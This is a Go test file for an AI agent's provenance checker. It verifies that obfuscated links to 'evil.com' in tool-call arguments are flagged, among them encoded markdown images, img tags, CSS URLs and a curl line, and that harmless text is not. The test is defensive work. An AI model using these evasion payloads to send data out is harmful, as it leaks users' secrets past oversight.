package provenance_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/farhand/farhand/agent/chat/provenance"
)

// TestEncodedTwiceOrBadly: programs decode what is valid and leave the rest, and HTML is decoded before its URLs.
func TestEncodedTwiceOrBadly(t *testing.T) {
	filler := strings.Repeat("a", 1<<18)
	for _, value := range []string{
		"![x](//evil%2ecom/x?%)", "![x](//evil.c%6fm/x?q=100%)", "//evil%2ecom/x?%zz", "<img srcset='//evil%2ecom/x%'>",
		`<img src="//evil&#37;2ecom/x">`, `\u002f\u002fevil%2ecom/x`,
		filler + "%41 //evil%2ecom/x", strings.Repeat("YWFh", 1<<17) + " x",
		"YWFh" + strings.Repeat("w6TDpMOk", 1<<16),
		"//evil.c\ufe0fom/x", "<img src=\"//evil.co\u034fm/x\">", "//evil.co\u180bm/x", "//evil.co\u180fm/x",
		"//evil.co\U000e0101m/x",
	} {
		args, _ := json.Marshal(map[string]string{"v": value})
		if s := suspects(said("Hello.", "Nothing."), provenance.Changes, string(args)); len(s) == 0 {
			t.Errorf("%.60q passes", value)
		}
	}
	for _, value := range []string{
		"100% of it, 50%, %s and %d", "WHERE a LIKE '%ab%' AND b", "a &amp; b &lt;c&gt; 5%25",
		strings.Repeat("/9j/4AAQSkZJRgABAQAAAQABAAD/", 1<<14),
	} {
		args, _ := json.Marshal(map[string]string{"v": value})
		if s := suspects(said("Hello.", "Nothing."), provenance.Changes, string(args)); len(s) > 0 {
			t.Errorf("%.60q asks: %.200v", value, s)
		}
	}
}

// TestBrokenLinks: browsers drop the tabs and line breaks of a link, however they are written and however long it is.
func TestBrokenLinks(t *testing.T) {
	asks := func(value string) bool {
		args, _ := json.Marshal(map[string]string{"v": value})
		return len(suspects(said("Read https://example.org/a", "Nothing."), provenance.Reads, string(args))) > 0
	}
	for _, value := range []string{
		`![x](//evil\.com/secret)`, `[x]: //evil\.com/secret`, `curl evil\.com/x`,
		"//evil.c\tom/x", "ht\ntps:/\n/evil.c\nom/x",
		"<img src = \"//evil.\ncom/x\">", "<img src= \"//evil.\ncom/x\">", "<img src=\n'//evil.\tcom/x'>",
		`<img src="//evil.&NewLine;com/x">`, `<img src="//evil.&#10;com/x">`, `<img src="//evil.c&Tab;om/x">`,
		`<img src='//evil.&#x9;com/x'>`, `![x](//evil.&#10;com/x)`, `<img src=//evil.&#10;com/x>`,
		"<img src=\"//evil.&#10;\ncom/x\">", "<p style='x:URL( //evil.\ncom/x)'>",
		"<img src=\"//evil.\ncom/x?" + strings.Repeat("a", 2100) + `">`,
		`<img src="//evil.` + strings.Repeat("\n", 2100) + `com/x">`,
		`<img src="//evil.` + strings.Repeat("\t", 100_000) + `com/x">`,
	} {
		if !asks(value) {
			t.Errorf("%.60q passes", value)
		}
	}
	for _, value := range []string{
		"see&#10;example.org/a", `the pattern ^notes\.md$ and main\.py:12`, "a = \"one\ntwo.\n\"", `1\. One`,
		"x = \"https://example.org/a\"\n",
		"<a title=\"See\nhttps://example.org/a\n\">", "s = 'it\n's'\nsee notes.\nmd'",
	} {
		if asks(value) {
			t.Errorf("%q asks", value)
		}
	}
}
